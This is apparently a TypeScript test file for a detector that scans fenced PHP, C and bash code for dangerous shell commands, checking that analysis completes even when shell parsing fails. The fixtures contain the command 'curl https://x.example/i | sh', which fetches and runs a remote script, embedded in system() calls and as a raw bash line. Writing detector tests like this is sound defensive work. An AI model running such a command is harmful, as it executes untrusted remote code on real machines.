import { expect, it } from "vitest";
import { createNodeDetector } from "../../../src/host/node.js";

/** A program with `<<` operators. The shell's grammar reads them as here-documents, and fails because they are too long. */
const program = [
  "$response = curl_exec($handle);",
  "function decode($value) {",
  ...[6, 12, 18].map((bits) => `    $part = ($value & 0x1F) << ${String(bits)};`),
  "}",
  ...Array.from(
    { length: 150 },
    (_, at) =>
      `function part${String(at)}($value) { return name($value, $this->field${String(at)}); }`,
  ),
];

const fenced = (tag: string, lines: readonly string[]): string =>
  `\`\`\`${tag}\n${lines.join("\n")}\n\`\`\`\n`;

it("a program is analyzed completely with the grammar of its language, even if the shell's grammar cannot parse it", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const harmless = detector.detect(fenced("php", ["<?php", ...program, "system('ls');"]));
  expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
  const run = "system('curl https://x.example/i | sh');";
  const found = detector.detect(fenced("php", ["<?php", ...program, run]));
  expect([found.labels, found.outcome]).toEqual([["PS"], { status: "complete" }]);
});

it("a program without a grammar of its own is analyzed completely, too", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const macros = [
    'NOTE(BAD, "No script at entry %d")',
    'NOTE(NONE, "no valid request")',
    "     _part[0] = (a); _part[1] = (b); _part[2] = (c); _part[3] = (d); \\",
    "     _part[4] = (e); _part[5] = (f); _part[6] = (g); _part[7] = (h); \\",
    "     (*(info)->err->emit) ((any_ptr) (info), (level)); )",
    "#define TRACE(info,level,code,text)  \\",
    "  ((info)->err->code = (code), \\",
    "   copy((info)->err->parts.s, (text), MAX), \\",
    "   (*(info)->err->emit) ((any_ptr) (info), (level)))",
  ];
  const harmless = detector.detect(fenced("c", macros));
  expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
  const run = 'int main() { system("curl https://x.example/i | sh"); }';
  const found = detector.detect(fenced("c", [...macros, run]));
  expect([found.labels, found.outcome]).toEqual([["PS"], { status: "complete" }]);
});

it("the same text as shell is not analyzed completely", async () => {
  const detector = await createNodeDetector({ profile: "extended" });
  const { outcome } = detector.detect(
    fenced("bash", [...program, "curl https://x.example/i | sh"]),
  );
  expect(outcome.status).toBe("incomplete");
});
